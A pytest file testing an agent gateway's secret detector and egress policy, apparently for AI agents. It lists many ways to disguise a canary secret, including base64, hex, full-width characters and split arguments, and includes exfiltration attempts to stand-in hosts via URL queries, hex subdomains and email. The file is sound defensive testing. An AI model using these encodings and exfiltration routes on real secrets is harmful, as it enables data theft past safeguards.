"""T39: who has read secrets sends only where they may go; secrets are found also encoded."""

from base64 import b32encode, b64encode, urlsafe_b64encode
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from audit.canonical import Json
from gateway.errors import CredentialMissing
from gateway.values.secret_finder import SecretFinder
from tests.harness.gateway import Running
from tests.harness.office import POLICY as OFFICE
from tests.harness.office import Office, open_office

pytestmark = pytest.mark.asyncio(loop_scope="module")

POLICY = (
    OFFICE.replace(
        "  office.read: {risk: read, emits: [], result: trusted}",
        "  office.read: {risk: read, emits: [secret], result: trusted}",
    )
    + """\
  - id: secrets-stay
    why: What is secret leaves to nowhere.
    agents: ["*"]
    tools: [office.page, office.send]
    when: "sink != 'internal' && ('secret' in labels || size(secrets) > 0)"
"""
)
CANARY = "canary-7f3a91-blue-heron"
KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"
TOKEN = "ghp_" + "a1B2" * 9


def hexed(text: str) -> str:
    return text.encode().hex()


SPELLINGS = {
    "plain": CANARY,
    "in capitals": CANARY.upper(),
    "spaced": " ".join(CANARY),
    "percent": quote(CANARY, safe="").replace("-", "%2D"),
    "every letter percent": "".join(f"%{ord(c):02x}" for c in CANARY),
    "base64": b64encode(CANARY.encode()).decode(),
    "base64 within": b64encode(f"x{CANARY}yz".encode()).decode(),
    "base64 without padding": b64encode(CANARY.encode()).decode().rstrip("="),
    "base64 for links": urlsafe_b64encode(f"??{CANARY}".encode()).decode(),
    "base64 behind a letter": "q" + b64encode(CANARY.encode()).decode(),
    "base64 in lines": "\n".join(
        b64encode(CANARY.encode()).decode()[n : n + 8] for n in (0, 8, 16, 24)
    ),
    "base32": b32encode(CANARY.encode()).decode(),
    "hex": hexed(CANARY),
    "hex in capitals": hexed(CANARY).upper(),
    "base64 of hex": b64encode(hexed(CANARY).encode()).decode(),
    "hex of base64": hexed(b64encode(CANARY.encode()).decode()),
    "full width": "".join(chr(ord(c) + 0xFEE0) for c in CANARY),
    "a key": KEY,
    "a key in base64": b64encode(KEY.encode()).decode(),
    "a token": f"see {TOKEN}",
    "a token in hex": hexed(TOKEN),
    "a password": "the password: hunter2!",
}


@pytest.mark.parametrize("spelling", SPELLINGS)
async def test_t39_a_secret_in_an_argument_is_found_however_it_is_packed(spelling: str) -> None:
    assert SecretFinder([CANARY]).kinds({"text": SPELLINGS[spelling]})


@pytest.mark.parametrize(
    "args",
    [
        pytest.param({"text": "look here", "to": CANARY}, id="in-another-argument"),
        pytest.param({"text": CANARY[:9], "to": CANARY[9:]}, id="cut-in-two"),
        pytest.param({"text": {"deep": [["x", {"er": CANARY}]]}}, id="deep-within"),
    ],
)
async def test_t39_it_is_found_in_every_argument(args: dict[str, Json]) -> None:
    assert SecretFinder([CANARY]).kinds(args) == {"canary"}


@pytest.mark.parametrize(
    "text",
    [
        "We meet on Friday; the password is with Bob.",
        "https://office.example/agenda?day=5&room=42",
        "AKIA is no key, and neither are sk-learn, ghp_ and eyJhbGciOi.",
        b64encode(b"an ordinary picture" * 20).decode(),
        "canary birds are blue",
    ],
)
async def test_t39_ordinary_text_holds_no_secret(text: str) -> None:
    assert SecretFinder([CANARY]).kinds({"text": text}) == frozenset()


async def test_t39_what_is_too_much_to_look_through_is_said_to_be_so() -> None:
    packed = b64encode(b64encode(b"x" * 600_000)).decode()
    assert SecretFinder([CANARY]).kinds({"text": packed}) == {"unsearched"}


async def test_t39_a_short_canary_is_refused() -> None:
    with pytest.raises(CredentialMissing):
        SecretFinder(["a-b-c-1-2"])


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        pytest.param("page", {"url": f"https://x.example/?q={CANARY}"}, id="search-query"),
        pytest.param("page", {"url": f"https://{hexed(CANARY)}.x.example/"}, id="host-name"),
        pytest.param("send", {"to": "a@x.example", "text": SPELLINGS["base64"]}, id="base64"),
        pytest.param("send", {"to": "a@x.example", "text": KEY}, id="a-key"),
        pytest.param("send", {"to": "a@x.example", "text": "", "copies": [CANARY]}, id="in-a-list"),
    ],
)
async def test_t39_a_secret_goes_to_no_sink_that_is_not_cleared(
    tmp_path: Path, tool: str, args: dict[str, Any]
) -> None:
    planted = tmp_path / "canary"
    planted.write_text(CANARY)
    settings = {"canaries": [f"file:{planted}"]}
    async with open_office(tmp_path, POLICY, settings=settings) as (gateway, office):
        agent = await gateway.agent()
        denied = await agent.call(f"office.{tool}", **args)
        assert denied.code == "policy.denied"
        entry = gateway.entry(denied.entry)
        assert entry["decision"]["rules"] == ["secrets-stay"]
        assert entry["facts"]["secrets"] in (["canary"], ["private-key"])
        assert CANARY not in denied.text
        assert office.desk.calls == []


async def test_t39_a_canary_is_not_taken_out_of_results(tmp_path: Path) -> None:
    """It has to be read to be found again."""
    planted = tmp_path / "canary"
    planted.write_text(CANARY)
    settings = {"canaries": [f"file:{planted}"]}
    async with open_office(tmp_path, POLICY, settings=settings) as (gateway, office):
        office.says("people", CANARY)
        assert CANARY in (await (await gateway.agent()).call("office.people")).text


@pytest.mark.parametrize("tool", ["page", "send"])
async def test_t39_who_has_read_what_is_secret_sends_nothing_out(
    opened: tuple[Running, Office], office: Office, tool: str
) -> None:
    agent = await opened[0].agent(purpose="Write to bob@acme.example, see https://acme.example")
    calls = {
        "page": {"url": "https://acme.example"},
        "send": {"to": "bob@acme.example", "text": "hi"},
    }
    assert (await agent.call(f"office.{tool}", **calls[tool])).done
    assert (await agent.call("office.read", path="/secrets/plan.txt")).done
    for way, args in calls.items():
        assert (await agent.call(f"office.{way}", **args)).code == "policy.denied"
    assert len(office.arrived(tool)) == 1
